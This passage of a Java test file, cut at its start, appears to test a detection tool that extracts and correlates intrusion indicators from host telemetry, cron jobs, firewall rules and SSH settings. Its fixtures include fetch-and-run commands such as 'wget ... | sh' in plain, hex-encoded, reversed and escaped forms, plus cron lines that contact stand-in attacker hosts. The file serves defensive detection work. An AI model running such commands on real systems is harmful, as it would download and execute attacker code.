                        "0 3 * * * root mail -s x System.Update@mailbox.mallory.example root@localhost.localdomain git@github.com");
        assertEquals(
                Set.of("system.update@mailbox.mallory.example", "mailbox.mallory.example"), addresses(fields, true));
        Map<String, String> forward =
                Map.of("location", "linux.mail.forward", "value", "system.update@mailbox.mallory.example");
        assertTrue(addresses(forward, false).contains("system.update@mailbox.mallory.example"));
    }

    @Test
    void ofTheNetworkOnlyAddressesAndNamesAreLookedAt() {
        Map<String, String> flow = Map.of(
                "kind",
                "flow",
                "Image",
                "/opt/x/rare77q",
                "Initiated",
                "true",
                "DestinationIp",
                "2001:db8:0:0:0:0:0:1");
        assertEquals(
                Map.of(Feature.ADDRESS, Set.of("2001:db8:0:0:0:0:0:1")),
                Features.seen(flow, "a").values());
        assertEquals(
                Set.of("a1.c2.mallory.example", "c2.mallory.example", "mallory.example", "203.0.113.66"),
                addresses(
                        Map.of(
                                "kind",
                                "dns-answer",
                                "QueryName",
                                "A1.c2.mallory.example.",
                                "QueryResults",
                                "203.0.113.66\n10.0.0.1"),
                        false));
        assertEquals(
                Set.of("x.workers.dev"),
                addresses(Map.of("kind", "dns-answer", "QueryName", "x.workers.dev"), false),
                "anybody has a name there");
        assertEquals(
                Set.of("203.0.113.66"),
                addresses(Map.of("kind", "logon", "account", "lea", "source_address", "203.0.113.66"), false));
        assertEquals(
                Set.of(),
                addresses(Map.of("kind", "logon", "account", "lea", "source_address", "203.0.113.66"), true),
                "a victim's logon is no mark of an address");
    }

    /** The hexadecimal is of xxd -p, the Base64 of raw deflate by python's zlib. */
    @Test
    void whatStandsEncodedIsACommandByItself() {
        CommandWords plain = CommandWords.of("wget -q -O - http://203.0.113.66/unk.sh | sh");
        for (String encoded : List.of(
                "echo 77676574202d71202d4f202d20687474703a2f2f3139382e35312e3130302e32392f612e7368207c207368203e202f6465762f6e756c6c20323e2631 | xxd -r -p | sh",
                "echo '1&>2 llun/ved/ > hs | hs.a/92.001.15.891//:ptth - O- q- tegw' | rev | bash",
                "printf 'wget -q -O - http:\\57\\57198.51.100.29\\57a.sh' | bash")) {
            assertTrue(
                    CommandWords.each(encoded).stream()
                            .anyMatch(each -> each.telling().equals(plain.telling())),
                    CommandWords.each(encoded).toString());
        }
        assertEquals(
                1,
                CommandWords.each("wget -q -O - http://203.0.113.66/unk.sh | sh")
                        .size());
    }

    /** The review's R3, R5 and E9: the account of a right that was marked, in by another right or by a group. */
    @Test
    void theAccountOfAMarkedRightIsKnownByWhateverElseItHasInTheDirectory() {
        String hermine = "S-1-5-21-1-2-3-1187";
        Map<String, String> right = Map.of(
                "location",
                "ad.rights.protected",
                "source",
                "CN=Domain Admins,CN=Users,{domain}",
                "name",
                hermine + " full-control",
                "value",
                "hermine (" + hermine + "): full-control");
        for (Map<String, String> other : List.of(
                Map.of("location", "ad.rights.protected", "name", hermine + " write-property member"),
                Map.of("location", "ad.group.privileged", "name", hermine, "value", "hermine in Domain Admins"),
                Map.of("location", "ad.certificate-template", "name", "ESC4 " + hermine + " write-dacl"))) {
            Map<Feature, Set<String>> seen = Features.seen(other, "a").values();
            assertEquals(Set.of(hermine), seen.get(Feature.ACCOUNT_SID), other.toString());
            assertEquals(Set.of(hermine), Features.marked(right, "a").values().get(Feature.ACCOUNT_SID));
            assertFalse(seen.containsKey(Feature.ACCOUNT), "it is suspected, not sure");
        }
        for (String everybody :
                List.of("S-1-5-11 write-dacl", "S-1-5-21-1-2-3-512 full-control", hermine + " deny-read")) {
            Map<String, String> fields = Map.of("location", "ad.rights.unit", "name", everybody);
            assertFalse(of(fields).contains(Feature.ACCOUNT_SID), everybody);
        }
    }

    private static Map<String, String> script(String observables) {
        return Map.of("location", "linux.cron.periodic", "target", "/opt/x/y", "observables", observables);
    }

    private static Set<String> marked(Feature feature, String observables) {
        return Features.marked(script(observables), "a").values().getOrDefault(feature, Set.of());
    }

    @Test
    void whatAScriptHoldsIsKnownInACommandAndTheOtherWayRound() {
        // printf 'Zq8WnT4kV2xLpR7mJ5' | sha256sum
        String digest = "7a7c5f7debee";
        Map<String, String> command = Map.of(
                "location", "linux.cron.system",
                "target", "/usr/bin/curl",
                "value", "* * * * * root curl -H Zq8WnT4kV2xLpR7mJ5 http://c2.mallory.example/x -o /etc/.k/z");
        Map<Feature, Set<String>> inScript = Features.seen(
                        script("host=c2.mallory.example\nsecret=" + digest + "\npath=/etc/.k/z"), "a")
                .values();
        Map<Feature, Set<String>> ofCommand = Features.marked(command, "a").values();
        for (Feature feature : List.of(Feature.SECRET, Feature.ADDRESS, Feature.HIDDEN_PATH, Feature.SISTER_HOST)) {
            assertFalse(ofCommand.getOrDefault(feature, Set.of()).isEmpty(), feature.name());
            Set<String> known = inScript.getOrDefault(feature, Set.of());
            assertTrue(known.containsAll(ofCommand.getOrDefault(feature, Set.of())), feature.name());
        }
        assertEquals(Set.of(digest), marked(Feature.SECRET, "secret=" + digest));
        assertTrue(Features.seen(command, "a")
                .values()
                .getOrDefault(Feature.SECRET, Set.of())
                .contains(digest));
    }

    @Test
    void aProgramThatIsReachedIsCertainWhereItIsMarkedAndLikelyWhereItWasReached() {
        String hash = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
        Map<String, String> program = Map.of(
                "location",
                "linux.cron.system",
                "target",
                "/opt/k/upd",
                "sha256",
                hash,
                "value",
                "* * * * * root /opt/k/upd");
        Map<String, String> start =
                Map.of("location", "linux.shell.user-profile", "name", ".profile", "observables", "file=" + hash);
        Map<String, String> folder = Map.of(
                "location", "linux.ld-so-conf", "name", "/srv/l", "target", "/srv/l", "observables", "file=" + hash);
        assertEquals(Optional.of(Certainty.CERTAIN), certainty(program, folder));
        assertEquals(Optional.of(Certainty.LIKELY), certainty(start, folder));
        assertEquals(
                Optional.of(Certainty.LIKELY), certainty(start, Map.of("Image", "/tmp/a", "Hashes", "SHA256=" + hash)));
    }

    /** An account of storage in settings is the same account on a command line. */
    @Test
    void aMailAddressInSettingsIsKnownInACommand() {
        Map<String, String> command =
                cron("* * * * * root /opt/b/sync --user j.dupond.77@tuta.example /srv", "/opt/b/sync");
        assertEquals(
                Set.of("j.dupond.77@tuta.example"),
                marked(Feature.ADDRESS, "mail=j.dupond.77@tuta.example\nmail=root@x.example"));
        assertTrue(matches(script("mail=j.dupond.77@tuta.example"), command).stream()
                .anyMatch(match -> match.features().contains(Feature.ADDRESS)));
    }

    @Test
    void whatManyScriptsNameIsNoFeature() {
        assertEquals(Set.of(), marked(Feature.HIDDEN_PATH, "path=/.ssh/authorized_keys\npath=/home/x/.bash_aliases"));
        assertEquals(Set.of("/dev/shm/.k"), marked(Feature.HIDDEN_PATH, "path=/dev/shm/.k"));
        assertEquals(
                Set.of("klk123456", "zzcmd_run7"),
                marked(
                        Feature.RARE_WORD,
                        "parameter=klk123456\nparameter=action\nparameter=page_id\nparameter=user2\nparameter=zzcmd_run7"));
        String readable = "parameter=numDelibération\nparameter=zinguerie_2\nparameter=crieur-public";
        assertEquals(Set.of(), marked(Feature.RARE_WORD, readable));
        assertEquals(
                Set.of("numdelibération", "zinguerie_2", "crieur-public"), marked(Feature.ORDINARY_WORD, readable));
        assertEquals(Set.of(), marked(Feature.ADDRESS, "host=github.com"));
        StringBuilder page = new StringBuilder("host=www.mairie.example");
        for (int i = 0; i < 12; i++) {
            page.append("\nhost=cdn").append(i).append(".library.example");
        }
        assertEquals(Set.of("www.mairie.example"), marked(Feature.ADDRESS, "host=www.mairie.example"));
        assertEquals(Set.of(), marked(Feature.ADDRESS, page.toString()), "it names many, and is about none");
        assertTrue(marked(Feature.SISTER_HOST, page.toString()).contains("www.mairie.example"));
    }

    @Test
    void theSameBuildIsKnownUnderAnotherNameUnlessItsMakerSignedIt() {
        String build = "mvid:00112233-4455-6677-8899-aabbccddeeff";
        Map<String, String> one =
                Map.of("location", "x", "target", "C:\\a\\b.exe", "signature", "unsigned", "build", build);
        assertEquals(Set.of(build), Features.marked(one, "a").values().get(Feature.BUILD));
        Map<String, String> signed =
                Map.of("location", "x", "target", "C:\\a\\b.exe", "signature", "valid", "build", build);
        assertFalse(of(signed).contains(Feature.BUILD));
        assertFalse(Feature.BUILD.sure());
    }

    @Test
    void whatTheSystemHasIsNoFeature() {
        String hash = "ab".repeat(32);
        Map<String, String> shell = Map.of("Image", "/usr/bin/bash", "sha256", hash, "CommandLine", "bash");
        assertEquals(Set.of(), of(shell));
        Map<String, String> packaged = Map.of(
                "Image", "/usr/sbin/sshd", "sha256", hash, "CommandLine", "sshd -D", "Package", "openssh-server");
        assertEquals(Set.of(), of(packaged));
        Map<String, String> copied = Map.of("Image", "/tmp/bash", "sha256", hash, "CommandLine", "bash");
        assertTrue(of(copied).contains(Feature.FILE));
        Map<String, String> swapped = Map.of(
                "location",
                "linux.file.system-program",
                "target",
                "/usr/bin/bash",
                "sha256",
                hash,
                "shipped",
                "modified");
        assertTrue(of(swapped).contains(Feature.FILE));
        Map<String, String> empty =
                Map.of("Image", "/tmp/x", "sha256", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
        assertFalse(of(empty).contains(Feature.FILE));
        Map<String, String> dotNet = Map.of(
                "location",
                "x",
                "target",
                "C:\\a\\b.exe",
                "signature",
                "unsigned",
                "imphash",
                "f34d5f2d4577ed6d9ceec516c1f5a744");
        assertFalse(of(dotNet).contains(Feature.IMPORTS));
    }

    @Test
    void hashesThatSysmonLogsAreHashesOfTheFile() {
        Map<String, String> fields = Map.of(
                "Image",
                "C:\\x\\y.exe",
                "Hashes",
                "MD5=00112233445566778899AABBCCDDEEFF,SHA256=" + "AB".repeat(32) + ",IMPHASH=" + "CD".repeat(16));
        Features features = Features.seen(fields, "a");
        assertEquals(Set.of("ab".repeat(32)), features.values().get(Feature.FILE));
        assertEquals(Set.of("cd".repeat(16)), features.values().get(Feature.IMPORTS));
    }

    @Test
    void theNameOfAFileIsNobodysInstance() {
        assertEquals(
                Set.of(),
                RemoteTokens.owners(Map.of(
                        "name", "action1 Action1", "source", "HKLM\\SOFTWARE\\WOW6432Node\\Action1", "value", "x=1")));
        assertEquals(
                Set.of("mallory@ad", "123456789"),
                RemoteTokens.owners(Map.of(
                        "name",
                        "anydesk mallory@ad 123456789",
                        "source",
                        "/etc/anydesk/system.conf",
                        "value",
                        "ad.anynet.alias=mallory@ad\nad.anynet.id=123456789\nad.anynet.pwd_hash digest=2baf1f40105d")));
        assertEquals(
                Set.of("mallory.example"),
                OwnParts.marked("curl http://10.0.0.1/a https://mallory.example:8443/x https://github.com/y")
                        .hosts());
    }

    /** Digests made up but for their form; the distance of one from itself and the weights are those of the reference. */
    @Test
    void distancesOfTlshAreThoseOfTheReference() {
        String one = "T1" + "0".repeat(70);
        assertEquals(OptionalInt.of(0), Tlsh.distance(one, one));
        assertEquals(OptionalInt.of(1), Tlsh.distance(one, "T110" + "0".repeat(68)));
        assertEquals(OptionalInt.of(6), Tlsh.distance(one, "T1" + "0".repeat(69) + "3"));
        assertEquals(OptionalInt.of(3), Tlsh.distance(one, "T1" + "0".repeat(69) + "6"));
        assertEquals(OptionalInt.of(1), Tlsh.distance(one, "T10010" + "0".repeat(66)));
        assertEquals(OptionalInt.of(24), Tlsh.distance(one, "T10020" + "0".repeat(66)));
        assertEquals(OptionalInt.of(12), Tlsh.distance(one, "T1000002" + "0".repeat(64)));
        assertEquals(OptionalInt.empty(), Tlsh.distance(one, "T1zz" + "0".repeat(68)));
        assertEquals(OptionalInt.empty(), Tlsh.distance(one, ""));
    }

    /** Digests are the first twelve digits of what sha256sum says of the word. */
    @Test
    void aSecretInClearIsTheOneWhoseDigestASettingTells() {
        Map<String, String> setting = Map.of(
                "location",
                "linux.remote.tunnel",
                "name",
                "ngrok digest=83f62ce03be0",
                "value",
                "authtoken digest=83f62ce03be0");
        Map<String, String> command = Map.of(
                "Image",
                "/usr/sbin/netd",
                "CommandLine",
                "netd tcp 22 --authtoken 2aVbNcXzLkJhGfDsApOiUyTrEwQ_7mYt5Rr3Ee1Ww9Qq8Zz");
        assertEquals(
                Set.of("83f62ce03be0"), Features.marked(setting, "a").values().get(Feature.SECRET));
        assertTrue(Features.seen(command, "a")
                .values()
                .getOrDefault(Feature.SECRET, Set.of())
                .contains("83f62ce03be0"));
        Map<String, String> password = Map.of(
                "location",
                "linux.account.password",
                "name",
                "lea",
                "value",
                "password=set scheme=y digest=27c53f54f89d");
        assertFalse(Features.seen(password, "a").words().contains("digest"));
    }

    @Test
    void nothingThatAHostSendsMakesItThrowOrStand() {
        Random random = new Random(20_261_126);
        String letters = "abcXYZ019 \\/.:-_=+@\"'`^{}()[]|;,\n\u0000é\u202e";
        for (int round = 0; round < 1_000; round++) {
            StringBuilder text = new StringBuilder();
            for (int i = random.nextInt(300); i > 0; i--) {
                text.append(letters.charAt(random.nextInt(letters.length())));
            }
            String t = text.toString();
            Features.seen(Map.of("location", "windows.remote.x", "name", t, "value", t, "target", t, "source", t), "a");
            Features.marked(Map.of("Image", t, "CommandLine", t, "Hashes", t), "a");
            Features.marked(
                    Map.of("location", "windows.account.local", "name", t, "value", "RID 9999999999 " + t), "a");
        }
        for (String part : List.of("a", "\\a", "/", "A1", "-", "@a.", "aaaa.", "^", "' + '", "%a%", "1.2.3.4 ", "{")) {
            String longest = part.repeat(200_000 / part.length());
            Features.seen(Map.of("Image", longest, "CommandLine", longest), "a");
            Features.marked(
                    Map.of("location", "x.remote.y", "name", longest, "value", longest, "source", longest), "a");
            Features.marked(
                    Map.of("location", "x", "name", longest, "value", longest, "target", longest, "source", longest),
                    "a");
        }
    }

    private static Map<String, String> setting(String value) {
        return Map.of(
                "location", "linux.ssh.server-config",
                "scope", "machine",
                "source", "/etc/ssh/sshd_config.d/50-cloud.conf",
                "name", value.substring(0, value.indexOf(' ')),
                "value", value,
                "shape", "1:" + value,
                "enabled", "true");
    }

    private static Certainty certainty(Map<String, String> marked, Map<String, String> seen, AgentId host) {
        return matches(marked, Optional.of(Specimens.agent(1)), seen, host.text())
                .getFirst()
                .certainty();
    }

    @Test
    void aSettingThatOthersSetTooIsCertainOnItsHostAlone() {
        AgentId other = Specimens.agent(2);
        Map<String, String> common = setting("PermitRootLogin yes");
        assertEquals(Certainty.CERTAIN, certainty(common, common, Specimens.agent(1)));
        assertEquals(Certainty.POSSIBLE, certainty(common, common, other));
        for (String rare : List.of("ForceCommand /opt/.k7/sess", "Banner upd7734x", "ListenAddress 203.0.113.9")) {
            Map<String, String> own = setting(rare);
            assertEquals(Certainty.CERTAIN, certainty(own, own, other), rare);
        }
        Map<String, String> runs = new HashMap<>(setting("Debugger cmd.exe"));
        runs.put("target", "C:\\Windows\\System32\\cmd.exe");
        assertEquals(Certainty.CERTAIN, certainty(runs, runs, other));
    }

    /** Versions as packages of Debian 12, Fedora 41, Ubuntu 24.04, Chrome and Windows have them. */
    @Test
    void versionsAreNobodysWords() {
        for (String version : List.of(
                "3.0.15-1~deb12u1",
                "9.2p1-2+deb12u3",
                "17.0.13+11-2~deb12u1",
                "5.36.0-7+deb12u1",
                "1.1.1f-1ubuntu2.24",
                "6.11.4-301.fc41",
                "131.0.6778.85",
                "10.0.19041.3636",
                "v22.12.0",
                "openssl-3.0.15",
                "python3-3.11.2-1")) {
            assertEquals(Set.of(), OwnParts.marked("install " + version).words(), version);
        }
        for (String own : List.of("upd7734x", "xmr1.2.3a9b8c7", "k1.example-9931-77aa1")) {
            assertFalse(OwnParts.marked("run " + own).words().isEmpty(), own);
        }
    }

    @Test
    void whereAnybodyHasAMailboxIsNobodysWord() {
        for (String mail : List.of("a.mallory77@gmail.com", "x@smtp.gmail.com", "y@bbox.fr", "z@numericable.fr")) {
            OwnParts parts = OwnParts.marked("notify " + mail);
            String host = mail.substring(mail.indexOf('@') + 1);
            assertFalse(parts.plainWords().contains(host), mail);
            assertFalse(parts.hosts().contains(host), mail);
            assertTrue(parts.hosts().contains(mail), "the address is somebody's");
        }
    }

    /** Names that RFC 4253, 5656, 6187, 8332 and 8709 register, and those of OpenSSH's PROTOCOL files. */
    @Test
    void namesOfAlgorithmsAreNobodysWords() {
        for (String name : List.of(
                "ssh-dss",
                "ssh-ed448",
                "ecdsa-sha2-nistp384",
                "rsa-sha2-512",
                "x509v3-ssh-rsa",
                "x509v3-rsa2048-sha256",
                "x509v3-ecdsa-sha2-nistp521",
                "sk-ssh-ed25519@openssh.com",
                "ssh-ed25519-cert-v01@openssh.com",
                "webauthn-sk-ecdsa-sha2-nistp256@openssh.com",
                "curve25519-sha256@libssh.org",
                "chacha20-poly1305@openssh.com",
                "aes256-gcm@openssh.com",
                "/etc/ssh/id_ed25519.pub")) {
            assertTrue(OwnParts.marked("run -t " + name + " h").isEmpty(), name);
        }
        for (String own : List.of("upd7734x-sha256", "ed25519x7k1", "ssh-k77a1x")) {
            assertFalse(OwnParts.marked("run " + own).words().isEmpty(), own);
        }
    }

    /** An option is called as its product's maker chose; what it is set to is the attacker's. */
    @Test
    void namesOfOptionsAreNobodysWords() {
        for (String option : List.of(
                "--advertise-zorglub", "--zorglubKeepAlive=1", "-zorglubserver h", "zorglub_interval=5", "--zorglub")) {
            OwnParts parts = OwnParts.marked("run " + option);
            assertTrue(parts.isEmpty(), option);
        }
        for (String value : List.of("--name upd7734x", "--name=upd7734x", "-pupd7734x", "id=upd7734x")) {
            assertEquals(
                    Set.of("upd7734x"),
                    OwnParts.marked("run " + value).words().stream()
                            .map(each -> each.substring(each.indexOf("upd")))
                            .collect(Collectors.toSet()),
                    value);
        }
    }

    /** Commands of PowerShell's own modules are everybody's, and a function that somebody wrote is his. */
    @Test
    void commandsOfPowerShellsModulesAreNobodysWords() {
        for (String own : List.of(
                "Export-PfxCertificate",
                "Register-ScheduledTask",
                "Get-ADComputer",
                "New-PSDrive",
                "Out-GridView",
                "ConvertTo-Xml")) {
            assertTrue(OwnParts.marked("pwsh.exe " + own + " x").isEmpty(), own);
        }
        for (String somebodys : List.of("Get-KrzwLoot", "Invoke-Bzhdrop", "Zorglub-Item")) {
            assertFalse(OwnParts.marked("pwsh.exe " + somebodys + " x").isEmpty(), somebodys);
        }
    }

    /** A folder's name is anybody's; beside something else it makes that surer, and a program's name or a setting is its own. */
    @Test
    void aWordOfALanguageLinksNothingByItself() {
        Map<String, String> marked =
                cron("0 3 * * * /usr/bin/tar cf /srv/deliberations/x 203.0.113.9:/y", "/usr/bin/tar");
        assertTrue(of(marked).contains(Feature.ORDINARY_WORD));
        assertEquals(
                Optional.empty(),
                certainty(marked, cron("0 5 * * * /usr/bin/rsync -a /data/deliberations/ nas:/z", "/usr/bin/rsync")));
        List<Match> both =
                matches(marked, cron("@daily /opt/k -d /mnt/deliberations -h 203.0.113.9 --at night --all", "/opt/k"));
        assertEquals(Set.of("203.0.113.9", "deliberations"), both.getFirst().parts());
        assertEquals(Certainty.LIKELY, both.getFirst().certainty());
        assertEquals(
                Optional.of(Certainty.POSSIBLE),
                certainty(
                        cron("@reboot /opt/x/zorglub", "/opt/x/zorglub"),
                        cron("@reboot /srv/y/zorglub", "/srv/y/zorglub")));
        assertFalse(of(cron("@reboot /opt/kdevtmpf/z", "/opt/kdevtmpf/z")).contains(Feature.ORDINARY_WORD));
    }

    /** Two town halls that use one product for remote access run it from the place where its packages put it. */
    @Test
    void whereAProductsPackagesPutItIsNobodysPath() {
        Map<String, String> marked =
                cron("@reboot /usr/bin/tailscale up --authkey tskey-auth-k1Zo9", "/usr/bin/tailscale");
        Map<String, String> other = cron("@reboot /usr/bin/tailscale up --authkey file:/etc/cle", "/usr/bin/tailscale");
        assertFalse(of(marked).contains(Feature.PATH));
        assertEquals(Optional.empty(), certainty(marked, other));
        assertTrue(of(cron("@reboot /var/tmp/tailscale", "/var/tmp/tailscale")).contains(Feature.PATH));
    }

    private static Map<String, String> rule(String name, String program, String fields) {
        return Map.of(
                "location",
                "windows.firewall.rule",
                "source",
                "HKLM\\SYSTEM\\ControlSet001\\Services\\SharedAccess\\Parameters\\FirewallPolicy\\FirewallRules",
                "name",
                name,
                "value",
                "v2.31|Action=Allow|Active=TRUE|Dir=In|" + fields + "|App=" + program + "|",
                "target",
                program,
                "shape",
                "1:" + name + fields);
    }

    /** The rules of Windows and of VNC are written like any other; the fields are those of [MS-FASP] 2.2.36. */
    @Test
    void aFirewallRuleIsKnownByItsProgramItsNameAndWhomItLetsIn() {
        String own = "C:\\ProgramData\\Zorg\\svc.exe";
        Map<String, String> marked = rule(
                "{5A0E}",
                own,
                "Protocol=17|Profile=Public|LPort=41999|RA4=203.0.113.77/255.255.255.255|Name=sync upd7734x");
        for (Map<String, String> usual : List.of(
                rule(
                        "RemoteAssistance-In-UDP",
                        "C:\\Windows\\System32\\msra.exe",
                        "Protocol=17|Profile=Public|LPort=41999|RA4=LocalSubnet|Name=@FirewallAPI.dll,-33003|EmbedCtxt=@FirewallAPI.dll,-33002"),
                rule(
                        "{77AB}",
                        "C:\\Program Files\\RealVNC\\vncserver.exe",
                        "Protocol=17|Profile=Public|LPort=41999|Name=sync"),
                rule("{5A0E}", "C:\\Program Files\\GED\\ged.exe", "Protocol=6|LPort=8080|Name=GED"))) {
            assertEquals(Optional.empty(), certainty(marked, usual), usual.get("name"));
        }
        for (Map<String, String> back : List.of(
                rule("{1}", own, "Protocol=6|LPort=1|Name=x"),
                rule("{2}", "C:\\a.exe", "Protocol=6|LPort=1|RA4=203.0.113.77|Name=x"),
                rule("{3}", "C:\\a.exe", "Protocol=6|LPort=1|Name=upd7734x"))) {
            assertEquals(Optional.of(Certainty.LIKELY), certainty(marked, back), back.get("name"));
        }
    }

    /** A path of manuals says nothing of what lies there: keys are told as items of their own. */
    @Test
    void aSettingThatNamesAFileOfAReadableNameIsPossibleElsewhere() {
        AgentId other = Specimens.agent(2);
        for (String named : List.of(
                "TrustedUserCAKeys /etc/ssh/autorite.pem",
                "AuthorizedPrincipalsFile /etc/ssh/principaux/%u",
                "HostCertificate /etc/ssh/attestation.pub")) {
            Map<String, String> setting = setting(named);
            assertEquals(Certainty.CERTAIN, certainty(setting, setting, Specimens.agent(1)), named);
            assertEquals(Certainty.POSSIBLE, certainty(setting, setting, other), named);
        }
        for (String rare : List.of("TrustedUserCAKeys /etc/ssh/.k/a.pub", "TrustedUserCAKeys /var/lib/upd7734x.pub")) {
            assertEquals(Certainty.CERTAIN, certainty(setting(rare), setting(rare), other), rare);
        }
    }
}
